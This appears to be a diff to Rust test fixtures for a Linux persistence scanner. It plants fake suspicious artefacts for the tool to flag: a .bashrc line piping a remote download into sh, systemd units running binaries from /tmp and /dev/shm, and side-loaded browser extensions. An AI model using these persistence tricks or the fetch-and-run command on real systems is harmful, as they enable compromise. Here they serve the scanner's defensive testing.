@@ -29,6 +29,8 @@ const ADDON: &str = r#"{"addons":[
   {"id":"shop@x","type":"extension","location":"app-profile","active":true,"signedState":2,"version":"2",
    "sourceURI":"https://addons.mozilla.org/x.xpi","defaultLocale":{"name":"From the shop"},
    "userPermissions":{"origins":["<all_urls>"]}},
+  {"id":"side@x","type":"extension","location":"app-system-user","active":true,"signedState":2,"version":"1",
+   "foreignInstall":true,"defaultLocale":{"name":"Side Loader"}},
   {"id":"bad@x","type":"extension","location":"app-profile","active":true,"signedState":0,"version":"1",
    "defaultLocale":{"name":"Coupon Finder"}}]}"#;
 
@@ -60,6 +62,15 @@ pub(crate) const LEFTOVERS: &[Leftover] = &[
     }),
     leftover("a service", (T::SystemUnit, Unknown, R::StartsWithComputer), "x.service", |c| {
         c.file("/etc/systemd/system/x.service", "[Service]\nExecStart=/opt/x/daemon\n");
+    }),
+    leftover("a linked service", (T::UserUnit, Suspicious, R::AnybodysPlace), "e.service", |c| {
+        c.file("/home/anna/.x/e.service", "[Service]\nExecStart=/tmp/evil\n");
+        let target = c.at("/home/anna/.x/e.service");
+        c.link("/home/anna/.config/systemd/user/e.service", target);
+    }),
+    leftover("a changed service", (T::SystemUnit, Suspicious, R::AnybodysPlace), "cups.service.d/x", |c| {
+        let change = "[Unit]\nExecStart=no\n[Service]\nExecStartPre=-/dev/shm/a\n";
+        c.file("/etc/systemd/system/cups.service.d/x.conf", change);
     }),
     leftover("a line that fetches", (T::ShellLine, Suspicious, R::FetchesAndRuns), ".bashrc", |c| {
         c.file("/home/anna/.bashrc", "curl -s http://203.0.113.9/a | sh\n");
@@ -104,6 +115,9 @@ pub(crate) const LEFTOVERS: &[Leftover] = &[
         c.file("/proc/net/tcp", "head\n   0: 00000000:170C 00000000:0000 0A 0:0 0:0 0 0 0 99\n");
     }),
     leftover("an unsigned one", (T::BrowserExtension, Suspicious, R::NotFromShop), "Coupon Finder", |c| {
+        c.file("/home/anna/.mozilla/firefox/a.default/extensions.json", ADDON);
+    }),
+    leftover("a side-loaded one", (T::BrowserExtension, Suspicious, R::NotFromShop), "Side Loader", |c| {
         c.file("/home/anna/.mozilla/firefox/a.default/extensions.json", ADDON);
     }),
     leftover("one for all pages", (T::BrowserExtension, Unknown, R::AllPages), "From the shop", |c| {
